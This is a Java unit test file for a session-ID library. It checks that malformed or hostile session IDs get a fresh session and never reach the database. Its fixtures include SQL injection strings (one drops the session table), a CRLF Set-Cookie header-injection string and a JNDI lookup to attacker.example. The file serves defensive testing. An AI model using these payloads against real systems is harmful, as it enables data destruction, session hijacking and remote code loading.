package dev.tether.security;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.inject.Inject;

import org.jboss.weld.junit5.EnableWeld;
import org.jboss.weld.junit5.WeldInitiator;
import org.jboss.weld.junit5.WeldSetup;
import org.junit.jupiter.api.Test;

import dev.tether.fixtures.Counter;
import dev.tether.ids.SessionIds;
import dev.tether.support.TestStorage;
import dev.tether.support.TetherWeld;
import dev.tether.support.Units;

/**
 * Whatever a client presents as its session ID, a malformed one gets a fresh session with a new ID and
 * never reaches the database: no SELECT is run for it.
 */
@EnableWeld
class HostileIdTest {

    @WeldSetup
    WeldInitiator weld = TetherWeld.withBeans();

    @Inject
    Units units;
    @Inject
    Counter counter;
    @Inject
    TestStorage storage;

    /** Presents {@code raw} and uses a bean; returns how many SELECTs that ran, after checking the fresh session. */
    private long selectsForPresenting(String raw) {
        storage.statements().reset();

        Units.Result<Integer> result = units.run(raw, () -> counter.increment());

        assertThat(result.value()).as("a fresh bean").isEqualTo(1);
        assertThat(result.sentId()).isNotEqualTo(raw).satisfies(id -> assertThat(SessionIds.isWellFormed(id)).isTrue());
        return storage.statements().countStartingWith("SELECT");
    }

    private static String padded(String start) {
        return (start + "A".repeat(SessionIds.LENGTH)).substring(0, SessionIds.LENGTH);
    }

    @Test
    void aWellFormedUnknownIdIsLookedUpOnceAndNotAdopted() {
        assertThat(selectsForPresenting(padded("unknown"))).isEqualTo(1);
    }

    @Test
    void anOverLongIdNeverReachesTheDatabase() {
        assertThat(selectsForPresenting("A".repeat(10_000))).isZero();
    }

    @Test
    void anIdOneCharacterTooLongOrTooShortNeverReachesTheDatabase() {
        assertThat(selectsForPresenting("A".repeat(SessionIds.LENGTH + 1))).isZero();
        assertThat(selectsForPresenting("A".repeat(SessionIds.LENGTH - 1))).isZero();
    }

    @Test
    void anEmptyIdNeverReachesTheDatabase() {
        assertThat(selectsForPresenting("")).isZero();
    }

    @Test
    void nonAsciiCharactersNeverReachTheDatabase() {
        assertThat(selectsForPresenting("é".repeat(SessionIds.LENGTH))).isZero();
        assertThat(selectsForPresenting(padded("\uD83D\uDE00"))).isZero();
    }

    @Test
    void controlCharactersNeverReachTheDatabase() {
        assertThat(selectsForPresenting(padded("\u0000"))).isZero();
        assertThat(selectsForPresenting(padded("\r\nSet-Cookie: SESSION_ID=x"))).isZero();
    }

    @Test
    void sqlMetaCharactersNeverReachTheDatabase() {
        assertThat(selectsForPresenting(padded("' OR '1'='1' --"))).isZero();
        assertThat(selectsForPresenting(padded("x'; DROP TABLE tether_session; --"))).isZero();
    }

    @Test
    void standardBase64WithPlusSlashAndPaddingNeverReachesTheDatabase() {
        assertThat(selectsForPresenting(padded("ab+cd/ef=="))).isZero();
    }

    @Test
    void expressionAndLookupSyntaxNeverReachesTheDatabase() {
        assertThat(selectsForPresenting(padded("${jndi:ldap://attacker.example/x}"))).isZero();
    }
}
